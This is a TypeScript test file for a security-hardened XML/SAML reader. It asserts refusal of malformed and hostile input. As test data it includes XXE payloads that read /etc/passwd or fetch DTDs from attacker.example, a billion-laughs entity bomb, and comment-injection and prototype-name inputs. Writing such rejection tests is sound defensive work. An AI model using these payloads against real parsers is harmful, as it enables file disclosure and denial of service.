import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { SamlReason } from '../refusal.ts';
import { readXml, type XmlLimits } from './read.ts';
import { attributeIn, base64Bytes, elementsIn, textIn, timeIn, utf8Of } from './values.ts';

const limits: XmlLimits = {
  characters: 10_000,
  depth: 5,
  elements: 20,
  attributes: 6,
  comments: 'refused',
};
const read = (text: string, more: Partial<XmlLimits> = {}) => readXml(text, { ...limits, ...more });
const refused = (reason: SamlReason, texts: readonly string[], more: Partial<XmlLimits> = {}) => {
  for (const text of texts)
    assert.throws(() => read(text, more), { name: 'Error', reason }, text.slice(0, 200));
};

test('elements, attributes, namespaces and text are read as XML has them', () => {
  const root = read(
    '<?xml version="1.0" encoding="UTF-8"?>\r\n<a:r xmlns:a="urn:a" xmlns="urn:d" x=\'1\' a:x="2">\r\n' +
      '<c y="&lt;&#x9;&#10;\t\n&quot;">a &amp; b&#13;\r\n😀é]]</c><a:e xmlns=""><f/></a:e></a:r>\n',
  );
  assert.deepEqual([root.namespace, root.name], ['urn:a', 'r']);
  assert.deepEqual(root.attributes, [
    { namespace: '', name: 'x', value: '1' },
    { namespace: 'urn:a', name: 'x', value: '2' },
  ]);
  const [c, e] = elementsIn(root);
  assert.deepEqual([c!.namespace, attributeIn(c!, 'y')], ['urn:d', '<\t\n  "']);
  assert.equal(textIn(c!), 'a & b\r\n😀é]]');
  assert.equal(elementsIn(e!)[0]!.namespace, '');
  assert.throws(() => textIn(root), { reason: 'value' });
});

test('XXE is refused', () =>
  refused('dtd', [
    '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://attacker.example/"> %x;]><r/>',
  ]));

test('billion laughs is refused', () =>
  refused('dtd', [
    '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><r>&c;</r>',
  ]));

test('an external DTD is refused', () =>
  refused('dtd', [
    '<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r/>',
    '<!DOCTYPE r PUBLIC "a" "http://attacker.example/x.dtd"><r/>',
    '<?xml version="1.0"?>\n<!DOCTYPE r><r/>',
    '<r><!ELEMENT r ANY></r>',
    '<r/><!DOCTYPE r>',
  ]));

test('entities but the five of XML are refused', () =>
  refused('entity', [
    '<r>&x;</r>',
    '<r a="&x;"/>',
    '<r>&</r>',
    '<r>&amp</r>',
    '<r>&#;</r>',
    '<r>&#x110000;</r>',
    '<r>&LT;</r>',
  ]));

test('a processing instruction is refused wherever it stands', () =>
  refused('processing_instruction', [
    '<n><?p not-an-?>admin</n>',
    '<?xml-stylesheet href="x"?><r/>',
    '<r/><?p?>',
    ' <?xml version="1.0"?><r/>',
    '<?xml version="1.1"?><r/>',
  ]));

test('CDATA is refused', () => refused('cdata', ['<r><![CDATA[a]]></r>', '<![CDATA[a]]><r/>']));

test('comments are refused in messages, and within values in metadata', () => {
  refused('comment', ['<r>a<!-- -->b</r>', '<!-- --><r/>', '<r/><!-- -->', '<r><!-- --><a/></r>']);
  const comments = 'between elements';
  refused('comment', ['<r>a<!-- -->b</r>', '<r>admin<!-- --></r>', '<r><a/><!-- --> x</r>'], { comments });
  assert.deepEqual(read('<!-- a --><r><!-- b -->\n<a/></r><!-- c -->', { comments }).children, [
    '\n',
    { namespace: '', name: 'a', attributes: [], children: [] },
  ]);
  refused('not_well_formed', ['<r><!-- -- --></r>', '<r><!-- </r>'], { comments });
});

test('two roots are refused', () => refused('several_roots', ['<r/><r/>', '<r></r><s/>']));

test('deep nesting is refused', () => {
  refused('too_deep', ['<a>'.repeat(6) + '</a>'.repeat(6), '<a>'.repeat(3000)]);
  read('<a>'.repeat(5) + '</a>'.repeat(5));
});

test('size, elements and attributes are bounded', () => {
  refused('too_large', [
    `<r>${'a'.repeat(10_000)}</r>`,
    `<r>${'<a/>'.repeat(20)}</r>`,
    '<r a="" b="" c="" d="" e="" f="" g=""/>',
    '<r xmlns:a="a" xmlns:b="a" xmlns:c="a" xmlns:d="a" xmlns:e="a" xmlns:f="a" xmlns:g="a"/>',
  ]);
  read(`<r>${'<a/>'.repeat(19)}</r>`);
});

test('characters that XML does not have are refused, written or referred to', () =>
  refused('character', [
    '<r>\0</r>',
    '<r>\u000b</r>',
    '<r>\ufffe</r>',
    '<r a="\ud800"/>',
    '<r>&#0;</r>',
    '<r>&#xD800;</r>',
    '<r a="&#xB;"/>',
  ]));

test('another encoding than UTF-8 is refused', () => {
  refused('encoding', [
    '<?xml version="1.0" encoding="UTF-16"?><r/>',
    '<?xml version="1.0" encoding="utf-7"?><r/>',
  ]);
  assert.throws(() => utf8Of(Buffer.from([0x3c, 0xff, 0x3e])), { reason: 'encoding' });
});

test('what is not well-formed is refused', () =>
  refused('not_well_formed', [
    '',
    ' ',
    'r',
    '<r',
    '<r>',
    '<r></s>',
    '<r></p:r>',
    '</r>',
    '<r/>x',
    'x<r/>',
    '<r a=1/>',
    '<r a="<"/>',
    '<r a="1" a="2"/>',
    '<r a="1"b="2"/>',
    '<r xmlns:p="u" xmlns:q="u" p:a="" q:a=""/>',
    '<p:r/>',
    '<r p:a=""/>',
    '<r xmlns:p=""/>',
    '<r xmlns:p="a" xmlns:p="b"/>',
    '<r xmlns="a" xmlns="b"/>',
    '<r xmlns:xml="a"/>',
    '<r xmlns:xmlns="a"/>',
    '<r xmlns="http://www.w3.org/XML/1998/namespace"/>',
    '<r>]]></r>',
    '<constructor:r/>',
    '<__proto__:r/>',
    '<1/>',
    '<é/>',
  ]));

test('a prefix may have any name', () => {
  const [inner] = elementsIn(
    read('<r xmlns:__proto__="urn:p" xmlns:constructor="urn:c"><__proto__:a constructor:b=""/></r>'),
  );
  assert.deepEqual([inner!.namespace, inner!.attributes[0]!.namespace], ['urn:p', 'urn:c']);
});

test('base64 has one form', () => {
  assert.equal(base64Bytes('YQ ==\r\n')?.toString(), 'a');
  for (const text of ['YQ', 'YQ=', 'YR==', 'Y===', 'Y-Q_', 'YQ==YQ==', '=', 'YQ<!-- -->=='])
    assert.equal(base64Bytes(text), undefined, text);
});

test('times are in UTC', () => {
  const time = (value: string) =>
    timeIn(
      { namespace: '', name: 'r', attributes: [{ namespace: '', name: 'T', value }], children: [] },
      'T',
    );
  assert.equal(time('2026-03-01T12:00:00Z'), Date.UTC(2026, 2, 1, 12));
  assert.equal(time('2026-03-01T12:00:00.1234567Z'), Date.UTC(2026, 2, 1, 12, 0, 0, 123));
  for (const value of [
    '',
    '2026-03-01',
    '2026-03-01T12:00:00',
    '2026-03-01T12:00:00+01:00',
    '2026-13-01T12:00:00Z',
    '1 Z',
  ])
    assert.throws(() => time(value), { reason: 'value' }, value);
});
